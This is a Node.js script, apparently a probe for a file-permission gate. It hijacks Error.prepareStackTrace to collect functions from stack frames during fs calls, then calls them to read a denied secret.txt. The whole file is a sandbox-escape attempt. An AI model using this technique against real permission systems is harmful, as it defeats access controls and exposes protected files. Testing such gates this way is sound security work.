// Takes functions, receivers and files from the frames of a stack that the gate is in.
// denied: file:read secret.txt
const fs = require('node:fs');
const lab = JSON.parse(process.argv[2]);
const found = new Set();
const collect = (error, sites) => {
  for (const site of sites) for (const get of ['getThis', 'getFunction', 'getEvalOrigin', 'getScriptNameOrSourceURL']) {
    const value = site[get]?.();
    if (value !== null && value !== undefined) found.add(value);
  }
  return '';
};
Error.stackTraceLimit = Infinity;
Error.prepareStackTrace = collect;
const look = () => void new Error('look').stack;
const attempts = [
  () => fs.readFileSync(lab.secret, 'utf8'),
  () => fs.readFileSync({ toString: () => (look(), lab.secret) }, 'utf8'),
  () => fs.readFileSync(lab.secret, { get encoding() { look(); return 'utf8'; } }),
  () => fs.cpSync(`${lab.granted}/tree`, `${lab.granted}/to`, { recursive: true, filter: () => (look(), true) }),
  () => fs.readFileSync(new Proxy(new URL(`file://${lab.secret}`), { get: (target, key) => (look(), Reflect.get(target, key)) }), 'utf8'),
];
for (const attempt of attempts) {
  try {
    const text = attempt();
    if (typeof text === 'string') console.log(text);
  } catch (error) {
    void error.stack;
  }
}
for (const value of found) {
  const functions = typeof value === 'function' ? [value] : typeof value === 'object' ? Object.values(value).filter((one) => typeof one === 'function') : [];
  for (const one of functions) {
    if (one === process.exit || one === process.reallyExit || one === process.abort) continue;
    try {
      const result = one.call(value, lab.secret, 'utf8');
      if (typeof result === 'string' || Buffer.isBuffer(result)) console.log(String(result));
    } catch {
      // Refused, or it wants something else.
    }
  }
}
